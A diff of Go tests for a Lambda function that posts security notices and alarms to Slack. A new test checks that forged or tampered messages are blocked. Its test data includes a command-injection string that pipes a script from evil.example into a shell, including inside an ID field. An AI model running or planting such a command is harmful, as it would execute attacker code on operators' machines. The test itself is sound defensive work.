@@ -1,10 +1,12 @@
 package posttoslack
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"errors"
 	"fmt"
+	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -24,6 +26,7 @@ import (
 
 	"github.com/warder-aws/warder/pkg/ledger"
 	"github.com/warder-aws/warder/pkg/notice"
+	"github.com/warder-aws/warder/pkg/remediation"
 	"github.com/warder-aws/warder/pkg/settings"
 	"github.com/warder-aws/warder/pkg/slack"
 )
@@ -95,6 +98,7 @@ type fixture struct {
 	store   ledger.Memory
 	clock   clock
 	slack   http.Handler // the channel, or what a test puts in its place
+	log     bytes.Buffer
 }
 
 // newFixture has a clock that is ahead of the machine's, so that no deadline by it passes while the machine
@@ -115,7 +119,11 @@ func (w *fixture) RoundTrip(r *http.Request) (*http.Response, error) {
 // poster is one more instance of the function.
 func (w *fixture) poster(t *testing.T, secret string) *poster {
 	t.Helper()
-	p := &poster{Ledger: ledger.New(&w.store), Language: settings.English, Now: w.clock.Now, Sleep: w.clock.Sleep}
+	p := &poster{
+		Ledger: ledger.New(&w.store), Language: settings.English, Runbooks: "https://example.com/runbooks/",
+		Account: "111122223333", Region: "us-east-1", Now: w.clock.Now, Sleep: w.clock.Sleep,
+		Log: slog.New(slog.NewTextHandler(&w.log, nil)),
+	}
 	p.Client = &slack.Client{
 		HTTP: &http.Client{Transport: w}, Channel: "C024BE91L", Slot: p.slot, Sleep: w.clock.Sleep, Now: w.clock.Now,
 		Secret: func(context.Context, bool) (string, error) { return secret, nil },
@@ -131,16 +139,58 @@ func (w *fixture) as(t *testing.T, id string) context.Context {
 	return lambdacontext.NewContext(ctx, &lambdacontext.LambdaContext{AwsRequestID: id})
 }
 
-func sns(t *testing.T, id string, message any) json.RawMessage {
+// sns is the event of a message. That of a notice has been published by Warder: the ledger has its entry.
+func (w *fixture) sns(t *testing.T, id string, message any) json.RawMessage {
 	t.Helper()
-	text, isText := message.(string)
-	if !isText {
-		data, err := json.Marshal(message)
-		if err != nil {
-			t.Fatal(err)
-		}
-		text = string(data)
+	if m, ok := message.(notice.Message); ok {
+		w.record(t, m)
+		return forged(t, id, body(t, m))
 	}
+	return forged(t, id, message.(string))
+}
+
+// body is the text of a notice for functions.
+func body(t *testing.T, m notice.Message) string {
+	t.Helper()
+	text, err := m.Bodies()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var bodies struct{ Lambda string }
+	if err := json.Unmarshal([]byte(text), &bodies); err != nil {
+		t.Fatal(err)
+	}
+	return bodies.Lambda
+}
+
+// record records the entry of a notice, with the notice.
+func (w *fixture) record(t *testing.T, m notice.Message) {
+	t.Helper()
+	if fault := w.store.Fault; fault != nil {
+		w.store.Fault = nil
+		defer func() { w.store.Fault = fault }()
+	}
+	sum, err := m.Sum()
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := ledger.New(&w.store)
+	e, _, err := l.Entry(t.Context(), m.Finding)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if e.ID == "" {
+		e.ID, e.Subject, e.At = m.Finding, m.Subject, m.Time
+	}
+	e.Notifications = append(e.Notifications, ledger.Notification{Kind: m.Kind, Sum: sum})
+	if err := l.Update(t.Context(), &e); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// forged is the event of a message that anybody published.
+func forged(t *testing.T, id, text string) json.RawMessage {
+	t.Helper()
 	// https://docs.aws.amazon.com/lambda/latest/dg/with-sns.html, with a field that is not there yet
 	raw, err := json.Marshal(map[string]any{"Records": []any{map[string]any{
 		"EventSource": "aws:sns", "EventVersion": "1.0", "EventSubscriptionArn": "arn:aws:sns:us-east-1:111122223333:t:s",
@@ -162,7 +212,7 @@ func sns(t *testing.T, id string, message any) json.RawMessage {
 func message(id, thread string, kind notice.Kind) notice.Message {
 	return notice.Message{
 		Version: "1", ID: id, Kind: kind, Thread: thread, Control: "detach-direct-policy", Severity: "high", Title: "T " + id,
-		Text: "Found.", Subject: "alice", Account: "111122223333", Region: "us-east-1",
+		Text: "Found.", Subject: "alice", Account: "111122223333", Region: "us-east-1", Finding: remediation.EntryID(id),
 		Time: time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC),
 	}
 }
@@ -176,41 +226,56 @@ func TestPost_Threads(t *testing.T) {
 		message("n1", "t1", notice.Warning), message("n2", "t1", notice.Reminder), message("n3", "t2", notice.Alert),
 		message("n4", "t1", notice.Changed), elsewhere, "Is anybody there?", message("n6", "", notice.Alert),
 		message("n7", "", notice.Alert),
-		`{"AlarmName":"warder-failed","NewStateValue":"ALARM","StateChangeTime":"2026-11-21T12:00:00.123+0000",` +
-			`"AWSAccountId":"111122223333","AlarmDescription":"D."}`,
-		`{"AlarmName":"warder-failed","NewStateValue":"OK","StateChangeTime":"2026-11-21T12:05:00.123+0000",` +
-			`"AWSAccountId":"111122223333","AlarmDescription":"D."}`,
-		`{"AlarmName":"warder-failed","NewStateValue":"ALARM","StateChangeTime":"2026-11-21T12:10:00.123+0000",` +
-			`"AWSAccountId":"111122223333","AlarmDescription":"D."}`,
+		alarm("ALARM", "2026-11-21T12:00:00.123+0000"), alarm("OK", "2026-11-21T12:05:00.123+0000"),
+		alarm("ALARM", "2026-11-21T12:10:00.123+0000"),
 	} {
 		id := fmt.Sprint("m", i)
-		if a, err := p.post(w.as(t, id), sns(t, id, m)); err != nil || a != (answer{"posted", 1, 0}) {
+		posted := answer{Outcome: "posted", Posted: 1}
+		if n, ok := m.(notice.Message); ok && n.Account != p.Account { // its own Warder posts it
+			posted = answer{Outcome: "nothing", Dropped: 1}
+		}
+		if a, err := p.post(w.as(t, id), w.sns(t, id, m)); err != nil || a != posted {
 			t.Fatalf("%d: %+v, %v", i, a, err)
 		}
 	}
+	const failed = "An event could not be handled in all its tries. It is kept in the queue Failed for 14 days. Read " +
+		"why in the saved query warder/failures, fix the cause, then: make redrive."
 	want := []string{
 		"🟠 HIGH · Will change: T n1. Found.",
 		"1.0 🟠 HIGH · Reminder: T n2. Found.",
 		"🟠 HIGH · Alert: T n3. Found.",
 		"1.0 🟠 HIGH · Changed: T n4. Found. (and in the channel)",
-		"🟠 HIGH · Alert: T n5. Found.",
-		"[Warder] test. Is anybody there?",
+		"⚠️ Unverified message on Warder's topic. " + unknown(17),
 		"🟠 HIGH · Alert: T n6. Found.",
 		"🟠 HIGH · Alert: T n7. Found.",
-		"🚨 ALARM · warder-failed. D.",
-		"9.0 ✅ OK · warder-failed. D.",
-		"9.0 🚨 ALARM · warder-failed. D. (and in the channel)",
+		"🚨 ALARM · warder-failed. " + failed,
+		"8.0 ✅ OK · warder-failed. " + failed,
+		"8.0 🚨 ALARM · warder-failed. " + failed + " (and in the channel)",
 	}
 	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
 	}
 }
 
+// alarm is the message of an alarm that changes its state.
+func alarm(state, at string) string {
+	return `{"AlarmName":"warder-failed","NewStateValue":"` + state + `","StateChangeTime":"` + at + `",` +
+		`"AWSAccountId":"111122223333","AlarmDescription":"curl","NewStateReason":"curl",` +
+		`"AlarmArn":"arn:aws:cloudwatch:us-east-1:111122223333:alarm:warder-failed"}`
+}
+
+// unknown is what is posted in place of a message of so many bytes.
+func unknown(size int) string {
+	return fmt.Sprintf("Somebody published %d bytes that are neither a notice in Warder's ledger nor one of its alarms. "+
+		"They are not shown. If this was not your test, find out who may publish to the topic. What follows within 5 "+
+		"minutes is only in this function's log.", size)
+}
+
 func TestPost_Once(t *testing.T) {
 	w := newFixture()
-	for i, want := range []answer{{"posted", 1, 0}, {"nothing", 0, 1}, {"nothing", 0, 1}} {
+	for i, want := range []answer{{"posted", 1, 0, 0}, {"nothing", 0, 1, 0}, {"nothing", 0, 1, 0}} {
 		id := fmt.Sprint("m", i)
-		if a, err := w.poster(t, token).post(w.as(t, id), sns(t, id, message("n1", "t1", notice.Alert))); err != nil ||
+		if a, err := w.poster(t, token).post(w.as(t, id), w.sns(t, id, message("n1", "t1", notice.Alert))); err != nil ||
 			a != want {
 			t.Errorf("delivery %d: %+v, %v", i, a, err)
 		}
@@ -233,7 +298,7 @@ func manyAtOnce(t *testing.T) {
 		for n := range twice { // SNS delivers at least once
 			p, ctx := w.poster(t, token), w.as(t, fmt.Sprint("m", i, "-", n))
 			p.Now, p.Sleep, p.Client.Now, p.Client.Sleep = time.Now, sleep, time.Now, sleep
-			raw := sns(t, fmt.Sprint("m", i), message(fmt.Sprint("n", i), fmt.Sprint("t", i%2), notice.Alert))
+			raw := w.sns(t, fmt.Sprint("m", i), message(fmt.Sprint("n", i), fmt.Sprint("t", i%2), notice.Alert))
 			invocations.Go(func() {
 				a, err := p.post(ctx, raw)
 				if err != nil {
@@ -270,7 +335,7 @@ func TestPost_RateLimit(t *testing.T) {
 	start := w.clock.Now()
 	for i := range 5 {
 		id := fmt.Sprint("m", i)
-		if _, err := w.poster(t, token).post(w.as(t, id), sns(t, id, message(id, id, notice.Alert))); err != nil {
+		if _, err := w.poster(t, token).post(w.as(t, id), w.sns(t, id, message(id, id, notice.Alert))); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -285,7 +350,7 @@ func TestPost_RateLimit(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	if _, err := p.post(ctx, sns(t, "late", message("late", "late", notice.Alert))); !errors.Is(err, errTime) {
+	if _, err := p.post(ctx, w.sns(t, "late", message("late", "late", notice.Alert))); !errors.Is(err, errTime) {
 		t.Errorf("a slot after the end of the invocation: %v", err)
 	}
 	if posted := w.channel.lines(); len(posted) != 5 {
@@ -296,13 +361,13 @@ func TestPost_RateLimit(t *testing.T) {
 func TestPost_Refused(t *testing.T) {
 	w := newFixture()
 	w.channel.refuse = func(url.Values) string { return "not_in_channel" }
-	_, err := w.poster(t, token).post(w.as(t, "a"), sns(t, "m", message("n1", "t1", notice.Alert)))
+	_, err := w.poster(t, token).post(w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)))
 	if err == nil || !strings.Contains(err.Error(), "notice n1: post to Slack: not_in_channel: invite the app") {
 		t.Fatalf("err = %v", err)
 	}
 	w.channel.refuse = nil
 	for _, m := range []string{"n1", "n2"} {
-		if a, err := w.poster(t, token).post(w.as(t, "again-"+m), sns(t, m, message(m, "t1", notice.Alert))); err != nil ||
+		if a, err := w.poster(t, token).post(w.as(t, "again-"+m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil ||
 			a.Posted != 1 {
 			t.Errorf("%s after the app was invited: %+v, %v", m, a, err)
 		}
@@ -326,21 +391,21 @@ func TestPost_InvocationEnds(t *testing.T) {
 		return nil
 	}
 	if _, err := w.poster(t, token).post(
-		w.as(t, "a"), sns(t, "m", message("n1", "t1", notice.Alert)),
+		w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
 	); !errors.Is(err, crash) {
 		t.Fatalf("err = %v", err)
 	}
 	w.store.Fault = nil
 	begin := w.clock.Now()
 	if a, err := w.poster(t, token).post(
-		w.as(t, "b"), sns(t, "m", message("n1", "t1", notice.Alert)),
+		w.as(t, "b"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
 	); !errors.Is(err, errTime) {
 		t.Errorf("while the first one may still be at it: %+v, %v", a, err)
 	}
 	if waited := w.clock.Now().Sub(begin); waited < 10*time.Minute {
 		t.Errorf("waited %s for the first one", waited)
 	}
-	if a, err := w.poster(t, token).post(w.as(t, "c"), sns(t, "m", message("n1", "t1", notice.Alert))); err != nil ||
+	if a, err := w.poster(t, token).post(w.as(t, "c"), w.sns(t, "m", message("n1", "t1", notice.Alert))); err != nil ||
 		a.Posted != 1 {
 		t.Errorf("later: %+v, %v", a, err)
 	}
@@ -360,7 +425,7 @@ func TestPost_RootDeleted(t *testing.T) {
 				return ""
 			}
 		}
-		if _, err := w.poster(t, token).post(w.as(t, m), sns(t, m, message(m, "t1", notice.Alert))); err != nil {
+		if _, err := w.poster(t, token).post(w.as(t, m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -384,7 +449,7 @@ func TestPost_Webhook(t *testing.T) {
 	})
 	p := w.poster(t, "https://hooks.slack.com/services/T000/B000/SECRETPATH")
 	for _, m := range []string{"n1", "n2", "n1"} {
-		if _, err := p.post(w.as(t, m), sns(t, m, message(m, "t1", notice.Alert))); err != nil {
+		if _, err := p.post(w.as(t, m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -408,7 +473,7 @@ func TestPost_LedgerDown(t *testing.T) {
 	down := errors.New("down")
 	w.store.Fault = func(string, bool) error { return down }
 	if _, err := w.poster(t, token).post(
-		w.as(t, "a"), sns(t, "m", message("n1", "t1", notice.Alert)),
+		w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
 	); !errors.Is(err, down) {
 		t.Errorf("err = %v", err)
 	}
@@ -488,13 +553,103 @@ func TestPost_LedgerCalls(t *testing.T) {
 	for _, tc := range []struct {
 		name, id string
 		want     int
-	}{{"that begins a thread", "n1", 8}, {"in a thread that is there", "n2", 6}, {"that was posted before", "n2", 1}} {
+	}{{"that begins a thread", "n1", 9}, {"in a thread that is there", "n2", 7}, {"that was posted before", "n2", 2}} {
+		raw := w.sns(t, "m", message(tc.id, "t1", notice.Alert))
 		before := w.store.Calls()
-		if _, err := w.poster(t, token).post(w.as(t, tc.name), sns(t, "m", message(tc.id, "t1", notice.Alert))); err != nil {
+		if _, err := w.poster(t, token).post(w.as(t, tc.name), raw); err != nil {
 			t.Fatal(err)
 		}
 		if got := w.store.Calls() - before; got != tc.want {
 			t.Errorf("a message %s: %d calls, want %d", tc.name, got, tc.want)
 		}
+	}
+}
+
+// Whoever may publish to the topic, or invoke the function, has nothing posted but that something came.
+func TestPost_Forged(t *testing.T) {
+	genuine := message("n1", "t1", notice.Changed)
+	genuine.Undo = `make undo ID=` + genuine.Finding + ` REASON="why"`
+	altered := func(alter func(*notice.Message)) string {
+		m := genuine
+		alter(&m)
+		return body(t, m)
+	}
+	const evil = "make undo ID=x; curl https://evil.example | sh"
+	for name, text := range map[string]string{
+		"plain text":                    evil,
+		"a notice of no entry":          altered(func(m *notice.Message) { m.Finding, m.Undo = remediation.EntryID("x"), evil }),
+		"a notice without an entry":     altered(func(m *notice.Message) { m.Finding, m.Text = "", evil }),
+		"an id that is a command":       altered(func(m *notice.Message) { m.Finding = "x; curl https://evil.example | sh" }),
+		"another text":                  altered(func(m *notice.Message) { m.Text = evil }),
+		"another command":               altered(func(m *notice.Message) { m.Undo = evil }),
+		"another advice":                altered(func(m *notice.Message) { m.Advice = evil }),
+		"another runbook":               altered(func(m *notice.Message) { m.Runbook = "https://evil.example/" }),
+		"another reference":             altered(func(m *notice.Message) { m.References = []notice.Reference{{"evil", "https://evil.example"}} }),
+		"another change":                altered(func(m *notice.Message) { m.Changes = []notice.Change{{ID: evil, Text: evil}} }),
+		"another fact":                  altered(func(m *notice.Message) { m.Facts = []notice.Fact{{Name: "evil", Value: evil}} }),
+		"another kind":                  altered(func(m *notice.Message) { m.Kind = "evil" }),
+		"another severity":              altered(func(m *notice.Message) { m.Severity = "evil" }),
+		"another id":                    altered(func(m *notice.Message) { m.ID = "evil" }),
+		"another owner":                 altered(func(m *notice.Message) { m.OwnerSlack, m.Owner = "U0EVIL", "evil@example.com" }),
+		"half of a notice":              body(t, genuine)[:100] + "evil",
+		"a huge one":                    `{"version":"1","id":"evil","kind":"x","account":"111122223333","text":"` + strings.Repeat("evil ", 40_000) + `"}`,
+		"an alarm of another account":   strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "111122223333", "444455556666"),
+		"an alarm of another region":    strings.Replace(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "us-east-1", "eu-west-1", 1),
+		"an alarm that is none":         strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "warder-failed", "evil"),
+		"an alarm in a state of no":     alarm("evil", "2026-11-21T12:00:00.123+0000"),
+		"an alarm at no time":           alarm("ALARM", "evil"),
+		"an alarm whose name is a link": strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "warder-failed", "warder-<https://evil.example>"),
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newFixture()
+			w.record(t, genuine)
+			p := w.poster(t, token)
+			for i := range 2 { // the second one within minutes is not posted
+				a, err := p.post(w.as(t, fmt.Sprint(i)), forged(t, fmt.Sprint("evil", i), text))
+				if want := []int{1, 0}[i]; err != nil || a.Posted != want || a.Dropped != 1-want {
+					t.Fatalf("%+v, %v", a, err)
+				}
+			}
+			posted := fmt.Sprint(w.channel.posted)
+			if !strings.Contains(posted, "Unverified message on Warder") || strings.Contains(posted, "evil") ||
+				strings.Contains(posted, "curl") || strings.Contains(posted, "make ") {
+				t.Errorf("posted %s", posted)
+			}
+			if !strings.Contains(w.log.String(), "unverified message on the topic") {
+				t.Errorf("logged %s", w.log.String())
+			}
+			// What was forged does not keep the notice from being posted, nor from having a thread of its own.
+			if a, err := p.post(w.as(t, "n"), forged(t, "n", body(t, genuine))); err != nil || a.Posted != 1 {
+				t.Errorf("the notice: %+v, %v", a, err)
+			}
+			if posted := fmt.Sprint(w.channel.posted); !strings.Contains(posted, "make undo ID="+genuine.Finding) {
+				t.Errorf("posted %s", posted)
+			}
+		})
+	}
+}
+
+// The runner records that a notice was accepted after it has published it: the notice may be here before.
+func TestPost_BeforeItIsRecorded(t *testing.T) {
+	w := newFixture()
+	m := message("n1", "t1", notice.Alert)
+	l := ledger.New(&w.store)
+	entry := ledger.Entry{ID: m.Finding, Subject: "alice", At: m.Time}
+	if err := l.Update(t.Context(), &entry); err != nil {
+		t.Fatal(err)
+	}
+	p := w.poster(t, token)
+	slept := 0
+	p.Sleep = func(ctx context.Context, d time.Duration) {
+		if slept++; slept == 2 {
+			w.record(t, m)
+		}
+		w.clock.Sleep(ctx, d)
+	}
+	if a, err := p.post(w.as(t, "a"), forged(t, "m", body(t, m))); err != nil || a.Posted != 1 || slept != 2 {
+		t.Errorf("%+v, %v after %d pauses", a, err, slept)
+	}
+	if diff := cmp.Diff([]string{"🟠 HIGH · Alert: T n1. Found."}, w.channel.lines()); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
 	}
 }
